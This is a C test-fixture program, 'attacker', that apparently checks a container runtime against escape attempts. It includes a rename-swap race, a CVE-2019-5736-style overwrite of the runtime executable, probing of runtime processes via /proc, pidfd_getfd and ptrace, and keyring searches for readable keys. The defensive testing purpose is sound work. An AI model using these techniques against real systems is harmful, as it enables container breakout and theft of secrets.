// What an attacker runs, in a container or beside one. Built statically by the fixture `attacker`.
//
//     attacker swap A B           exchange A and B until standard input ends; then say how often
//     attacker overwrite SECONDS  write to the executable of whatever process there is, as CVE-2019-5736 does
//     attacker watch SECONDS      get hold of a process of the runtime's in this pid namespace: one line for each way
//     found attacker keys NAME          a key of this name that can be read, in any keyring that this process has
//     attacker loop               wait to be killed
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int swap(const char *a, const char *b) {
  struct pollfd input = {0, POLLIN, 0};
  struct timespec pause = {0, 0};
  unsigned long count = 0;
  while (poll(&input, 1, 0) == 0)
    for (int i = 0; i < 50;
        i++, count++, pause.tv_nsec = rand() % 200000, nanosleep(&pause, 0)) // the other side is to get on, too
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */)) {
        perror("renameat2");
        return 1;
      }
  if (count % 2) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
  printf("%lu\n", count);
  return 0;
}

// Is the process one of the runtime's, as its executable says? -1: not to be seen.
static int is_runtime(int pid) {
  char path[64], exe[4096];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, exe, sizeof exe - 1);
  if (n < 0) return -1;
  exe[n] = 0;
  return strstr(exe, "ocirt") || strstr(exe, "memfd:") ? 1 : 0;
}

static void reached(int pid, const char *how) {
  // Between the look and the deed it may have become the program, which is ours to look at.
  if (is_runtime(pid) != 1) return;
  printf("%d reached by %s\n", pid, how);
  fflush(stdout);
}

static void try_process(int pid) {
  char path[64];
  if (is_runtime(pid) == 1) reached(pid, "exe");
  int before = is_runtime(pid);
  if (!before) return;
  static const char *const names[] = {"mem", "maps", "environ", "root", "cwd", "ns/user", "auxv"};
  for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
    int fd = open(path, !strcmp(names[i], "mem") ? O_RDWR : O_RDONLY);
    if (fd >= 0) {
      reached(pid, names[i]);
      close(fd);
    }
  }
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 0; fd < 16; fd++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    int got = open(path, O_RDONLY | O_NONBLOCK);
    if (got >= 0) {
      reached(pid, "fd");
      close(got);
    }
    got = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
    if (got >= 0) {
      reached(pid, "pidfd_getfd");
      close(got);
    }
  }
  close(pidfd);
  if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
    reached(pid, "ptrace");
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, 0, __WALL | WNOHANG);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

static int watch(double seconds) {
  unsigned long tries = 0;
  for (double end = now() + seconds; now() < end;) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while ((entry = readdir(proc))) {
      int pid = atoi(entry->d_name);
      if (pid > 0 && pid != getpid()) {
        try_process(pid);
        tries++;
      }
    }
    closedir(proc);
  }
  printf("tries %lu\n", tries);
  return 0;
}

// Opens the executable of each process while that lives, and writes to it when nobody executes it any more.
static int overwrite(double seconds) {
  int held[64], count = 0;
  unsigned long tries = 0;
  for (double end = now() + seconds; now() < end;) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while ((entry = readdir(proc))) {
      char path[300], exe[4096];
      int pid = atoi(entry->d_name);
      if (pid <= 0) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      ssize_t n = readlink(path, exe, sizeof exe - 1);
      if (n < 0) continue;
      exe[n] = 0;
      if (!strstr(exe, "ocirt") && !strstr(exe, "memfd:")) continue;
      int fd = open(path, O_RDONLY);
      if (fd >= 0 && count < 64)
        held[count++] = fd;
      else if (fd >= 0)
        close(fd);
    }
    closedir(proc);
    for (int i = 0; i < count; i++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      static const int ways[] = {O_WRONLY, O_RDWR | O_TRUNC, O_WRONLY | O_APPEND};
      for (unsigned k = 0; k < 3; k++, tries++) {
        int fd = open(path, ways[k]);
        if (fd >= 0 && write(fd, "#!/tmp/evil\n", 12) == 12) printf("overwritten\n");
        close(fd);
      }
    }
  }
  printf("held %d tries %lu\n", count, tries);
  return 0;
}

static int keys(const char *name) {
  static const long rings[] = {-1, -2, -3, -4, -5}; // thread, process, session, user, user session
  for (unsigned i = 0; i < 5; i++) {
    char text[256];
    long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, rings[i], "user", name, 0);
    if (key < 0) continue;
    long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, text, sizeof text);
    printf("found in %ld: %.*s\n", rings[i], n > 0 ? (int)n : 0, text);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 4 && !strcmp(argv[1], "swap")) return swap(argv[2], argv[3]);
  if (argc == 3 && !strcmp(argv[1], "overwrite")) return overwrite(atof(argv[2]));
  if (argc == 3 && !strcmp(argv[1], "watch")) return watch(atof(argv[2]));
  if (argc == 3 && !strcmp(argv[1], "keys")) return keys(argv[2]);
  if (argc == 2 && !strcmp(argv[1], "loop"))
    for (;;)
      pause();
  return 2;
}
